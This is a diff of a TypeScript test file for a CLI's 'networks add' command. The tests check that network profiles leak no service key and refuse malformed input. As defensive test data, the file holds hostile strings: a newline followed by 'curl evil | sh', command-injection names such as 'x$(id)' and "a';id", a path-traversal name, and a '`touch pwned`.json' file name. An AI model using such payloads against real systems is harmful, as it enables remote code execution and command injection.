@@ -45,13 +45,23 @@ async function recordingServer() {
   return { url: server.url, received };
 }
 
-async function add(profile: object | string, home: string, ...options: string[]) {
+/** Adds a profile, with consent to what it sends. */
+async function add(
+  profile: object | string,
+  home: string,
+  variables = SERVICE,
+  consent = ['--yes'],
+) {
   const file = join(home, 'given.json');
   writeFileSync(file, typeof profile === 'string' ? profile : JSON.stringify(profile));
-  return runHere(['networks', 'add', file, ...options], {
-    home,
-    env: { ...ENVIRONMENT, ...SERVICE },
-  });
+  const env = { ...ENVIRONMENT, ...variables };
+  return runHere(['networks', 'add', file, ...consent], { home, env });
+}
+
+async function expectRefusedProfile(profile: object | string, home = temporaryFolder()) {
+  const refused = await add(profile, home);
+  expect(refused, JSON.stringify(profile).slice(0, 200)).toMatchObject({ code: 2, stdout: '' });
+  expect(refused.stderr).toContain('E-PRF-102');
 }
 
 /** A profile whose every endpoint is the server. */
@@ -105,7 +115,7 @@ const FIELDS: readonly ((url: string) => object)[] = [
 /** Adds the profile, then uses it as if it had reached the folder without the checks of `networks add`. */
 async function outputsOf(profile: Readonly<Record<string, unknown>>): Promise<string> {
   const home = temporaryFolder();
-  const added = await add(profile, home, '--yes');
+  const added = await add(profile, home);
   storeNetwork(home, profile);
   const outputs = [added.stdout, added.stderr];
   const env = { ...ENVIRONMENT, ...SERVICE };
@@ -158,14 +168,14 @@ test('a variable goes only to its host, and only after consent', async () => {
   const profile = profileAt(server.url, { rpcUrls: [`${server.url}/${path}`] });
   const host = server.url.replace('http://', '');
 
-  const refused = await add(profile, home);
+  const refused = await add(profile, home, SERVICE, []);
   expect(refused.code).toBe(3);
   expect(refused.stderr).toContain(`ONBOARD_SERVICE_KEY to ${host}`);
   expect(refused.stderr).toContain('E-PRF-111');
   expect(server.received).toEqual([]);
   expect(existsSync(join(home, 'networks', 'foreign.json'))).toBe(false);
 
-  const agreed = await add(profile, home, '--yes');
+  const agreed = await add(profile, home);
   expect(agreed.stderr).toContain(`ONBOARD_SERVICE_KEY to ${host}`);
   const withValue = server.received.filter((request) => request.includes(SERVICE_VALUE));
   expect(withValue.length).toBeGreaterThan(0);
@@ -183,7 +193,7 @@ test('a redirect takes the value of a variable nowhere', async () => {
   });
   onTestFinished(() => server.close());
   const changes = { rpcUrls: [`${server.url}/${NAMED}/ext/bc/C/rpc?token=${NAMED}`] };
-  const added = await add(profileAt(server.url, changes), home, '--yes');
+  const added = await add(profileAt(server.url, changes), home);
   expect(paths.some((path) => path.includes(SERVICE_VALUE))).toBe(true);
   expect(other.received).toEqual([]);
   expect(added.stdout + added.stderr).not.toContain(SERVICE_VALUE);
@@ -192,40 +202,28 @@ test('a redirect takes the value of a variable nowhere', async () => {
 test('a variable reaches a host with an IPv6 address, and no variable names such a host', async () => {
   const home = temporaryFolder();
   const at = (host: string) => `http://[${host}]:1/${NAMED}/ext/bc/C/rpc`;
-  const fine = await add(profileAt(at('::1')), home);
+  const fine = await add(profileAt(at('::1')), home, SERVICE, []);
   expect(fine.stderr).toContain('ONBOARD_SERVICE_KEY to [::1]:1');
-  for (const host of [NAMED, `::${NAMED}`, `::1%25${NAMED}`]) {
-    const refused = await add(profileAt(at(host)), home, '--yes');
-    expect(refused).toMatchObject({ code: 2, stdout: '' });
-    expect(refused.stderr).toContain('E-PRF-102');
-  }
+  for (const host of [NAMED, `::${NAMED}`, `::1%25${NAMED}`])
+    await expectRefusedProfile(profileAt(at(host)), home);
 });
 
-/** Adds a profile whose URL names a variable with this value. */
-async function addWith(value: string) {
-  const server = await recordingServer();
-  const file = join(temporaryFolder(), 'given.json');
-  const rpcUrls = [`${server.url}/${NAMED}/ext/bc/C/rpc`];
-  writeFileSync(file, JSON.stringify(profileAt(server.url, { rpcUrls })));
-  const env = { ONBOARD_SERVICE_KEY: value };
-  const added = await runHere(['networks', 'add', file, '--yes'], { home: temporaryFolder(), env });
-  expect(added.stdout + added.stderr).not.toContain(value);
-  return { added, received: server.received };
-}
-
-test('a variable with what looks like a key is not sent', async () => {
-  const { added, received } = await addWith(`0x${'ab'.repeat(32)}`);
-  expect(added.code).toBe(2);
-  expect(added.stderr).toContain('E-PRF-110');
-  expect(received).toEqual([]);
-});
-
-test('32 bytes in base64url are the token of a service, although a key could be written so', async () => {
-  const { added, received } = await addWith(
+test.each([
+  ['what looks like a key is not sent', `0x${'ab'.repeat(32)}`, true],
+  // A key could be written so too.
+  [
+    '32 bytes in base64url, the token of a service, is sent',
     Buffer.from(sha256(new Uint8Array(1))).toString('base64url'),
-  );
-  expect(added.stderr).not.toContain('E-PRF-110');
-  expect(received).not.toEqual([]);
+    false,
+  ],
+])('a variable with %s', async (_, value, isRefused) => {
+  const server = await recordingServer();
+  const profile = profileAt(server.url, { rpcUrls: [`${server.url}/${NAMED}/ext/bc/C/rpc`] });
+  const added = await add(profile, temporaryFolder(), { ONBOARD_SERVICE_KEY: value });
+  expect(added.stdout + added.stderr).not.toContain(value);
+  expect(added.stderr.includes('E-PRF-110')).toBe(isRefused);
+  if (isRefused) expect(added.code).toBe(2);
+  expect(server.received.length === 0).toBe(isRefused);
 });
 
 const LINES = ['\n', '\r', '\r\n', '\u2028', '\u2029', '\u0085', '\v', '\f', '\u001b[2K', '\t'];
@@ -253,13 +251,9 @@ const TEXTS: readonly ((text: string) => object)[] = [
 test('a text of a profile is one line', async () => {
   const server = await recordingServer();
   const home = temporaryFolder();
-  for (const make of TEXTS) {
-    for (const end of LINES) {
-      const refused = await add(profileAt(server.url, make(`a${end}curl evil | sh`)), home);
-      expect(refused, JSON.stringify(make(end))).toMatchObject({ code: 2, stdout: '' });
-      expect(refused.stderr).toContain('E-PRF-102');
-    }
-  }
+  for (const make of TEXTS)
+    for (const end of LINES)
+      await expectRefusedProfile(profileAt(server.url, make(`a${end}curl evil | sh`)), home);
   expect(server.received).toEqual([]);
 });
 
@@ -269,28 +263,19 @@ test.each([
   ['a list of endpoints', { rpcUrls: Array.from({ length: 501 }, () => 'http://127.0.0.1:1') }],
   ['the whole file', { $schema: 'x'.repeat(1_000_001) }],
   ['the usual price', { usualGasPrice: '100000000001' }],
-])('the size of a profile is limited: %s', async (_, changes) => {
-  const refused = await add(profileAt('http://127.0.0.1:1', changes), temporaryFolder());
-  expect(refused).toMatchObject({ code: 2, stdout: '' });
-  expect(refused.stderr).toContain('E-PRF-102');
-});
+])('the size of a profile is limited: %s', (_, changes) =>
+  expectRefusedProfile(profileAt('http://127.0.0.1:1', changes)),
+);
 
 test('a deeply nested profile is refused', async () => {
   const nested = `${'['.repeat(100_000)}${']'.repeat(100_000)}`;
-  for (const text of [nested, `{"title":${nested}}`, `{"x":${nested}}`]) {
-    const refused = await add(text, temporaryFolder());
-    expect(refused).toMatchObject({ code: 2, stdout: '' });
-    expect(refused.stderr).toContain('E-PRF-102');
-  }
+  for (const text of [nested, `{"title":${nested}}`, `{"x":${nested}}`])
+    await expectRefusedProfile(text);
 });
 
 test.each(['sandbox', 'fuji', 'local', 'constructor.', '../x', 'Mine', 'x$(id)', "a';id", ''])(
   'a profile does not take the name %j',
-  async (own) => {
-    const refused = await add(profileAt('http://127.0.0.1:1', { name: own }), temporaryFolder());
-    expect(refused).toMatchObject({ code: 2, stdout: '' });
-    expect(refused.stderr).toContain('E-PRF-102');
-  },
+  (own) => expectRefusedProfile(profileAt('http://127.0.0.1:1', { name: own })),
 );
 
 /** File names as an attacker or a synchroniser leaves them, with the name inside. */
@@ -300,7 +285,6 @@ const STRANGE: readonly (readonly [file: string, inner: string])[] = [
   ['`touch pwned`.json', 'x'],
   ['._mine.json', 'mine'],
   ['.mine.json', 'mine'],
-  ['mine (conflicted copy).json', 'mine'],
   ['mine.sync-conflict-20260101-101010.json', 'mine'],
   ['Mine.json', 'mine'],
   ['zzz.json', 'mine'],
